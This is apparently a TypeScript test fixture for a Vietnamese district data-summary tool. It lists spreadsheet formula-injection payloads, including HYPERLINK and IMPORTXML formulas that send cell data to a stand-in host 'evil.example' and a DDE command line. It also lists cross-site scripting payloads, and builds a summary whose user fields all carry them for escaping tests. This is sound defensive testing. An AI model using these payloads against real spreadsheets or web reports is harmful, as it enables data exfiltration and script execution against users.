/**
 * Hostile text for the injection tests, and a summary built from it the way a district
 * would get one: unit names (district-typed), notes, a text typed in a number cell and a
 * sheet name (commune-typed), organisation and aggregating unit (settings) all carry it.
 */
import { defaultCatalogue, defaultSettings } from '../../src/engine/catalogue/defaults';
import { summarise } from '../../src/engine/pipeline';
import { buildUnitSheet, monthCol } from '../../src/engine/sheet/layout';
import { modelToSheetInput, rowWithCode } from '../../src/engine/sheet/testing';
import type { Catalogue, Settings, Summary, Unit, WorkbookInput } from '../../src/engine/types';

/** Text that a spreadsheet would run as a formula (or turn into a number) if written as typed. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+84 912 345 678',
  '+SUM(1,2)',
  '-2+3',
  '- Đường vào bản sạt lở',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("http://evil.example","//a")',
];

/** Markup a browser would run or render if a report pasted it unescaped. Each sets window.__xss or alerts. */
export const XSS_PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '<svg onload="window.__xss=3"><circle r=1 /></svg>',
  '"><script>window.__xss=4</script>',
  "' onmouseover='window.__xss=5' x='",
  'javascript:window.__xss=6',
  '<a href="javascript:window.__xss=7">bấm vào</a>',
  '<iframe src="javascript:window.__xss=8"></iframe>',
  '</td></tr></table><script>window.__xss=9</script>',
  '<scr<script>ipt>window.__xss=10</scr</script>ipt>',
  '<body onload=window.__xss=11>',
  '<style>*{display:none!important}</style>',
  '<!-- chưa đóng chú thích',
  '<div style="background:url(javascript:window.__xss=12)">x</div>',
  '&lt;script&gt;window.__xss=13&lt;/script&gt;',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=14>',
  '<input autofocus onfocus=window.__xss=15>',
  '<details open ontoggle=window.__xss=16>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=17">',
  '<base href="javascript:window.__xss=18//">',
  '<img src="http://evil.example/track.gif">',
  '<script>alert("Xã")</script>',
  '<object data="javascript:alert(1)"></object>',
  '<form action="javascript:alert(1)"><button>Gửi</button></form>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<img src=x onerror=alert(1)//',
  '<p title="</p><script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
];

const catalogue = defaultCatalogue();

/**
 * A September 2018 summary in which every user-provided string is one of `payloads`:
 * unit names, notes, a value typed in a number cell, the sheet name, the settings' names.
 * Units are u1…uN; payload i goes to unit (i mod N).
 */
export function hostileSummary(
  payloads: string[],
  opts: { units?: number } = {},
): {
  summary: Summary;
  catalogue: Catalogue;
  units: Unit[];
  settings: Settings;
} {
  const n = opts.units ?? Math.min(payloads.length, 12);
  const units: Unit[] = Array.from({ length: n }, (_, i) => ({
    code: `u${i + 1}`,
    name: payloads[i % payloads.length],
    kind: 'xã',
    emails: [],
  }));
  const settings: Settings = {
    ...defaultSettings(),
    organisation: payloads[0],
    aggregatingUnitName: payloads[1 % payloads.length],
  };
  const workbooks: WorkbookInput[] = units.map((u, i) => {
    const notes = Array<string | null>(12).fill(null);
    notes[8] = payloads.filter((_, k) => k % n === i).join('\n') || payloads[i % payloads.length];
    const values = { DTN_QUA: [1, 2, 3, 4, 5, 6, 7, 8, 10 + i, null, null, null] };
    const submitted = Array<string | null>(12).fill(null);
    submitted[8] = '2018-09-16';
    const sheet = modelToSheetInput(
      buildUnitSheet(u, 2018, catalogue, { values, notes: { GHI_CHU: notes }, submitted }, `Trang ${i + 1} 2018`),
    );
    // The commune typed a payload into a number cell too (shown, cut to 60 characters, in a finding).
    sheet.grid[rowWithCode(sheet.grid, 'DTN_MITOM') - 1][monthCol(9) - 1] = payloads[(i + 1) % payloads.length];
    // And named its sheet with it (findings quote sheet names).
    sheet.name = `${payloads[(i + 2) % payloads.length].slice(0, 40)} 2018`;
    return { source: `${u.code}.xlsx`, sheets: [sheet] };
  });
  const { summary } = summarise({
    catalogue,
    units,
    settings,
    period: { type: 'month', year: 2018, index: 9 },
    workbooks,
    generatedAt: '2018-09-20T03:00:00.000Z',
  });
  return { summary, catalogue, units, settings };
}
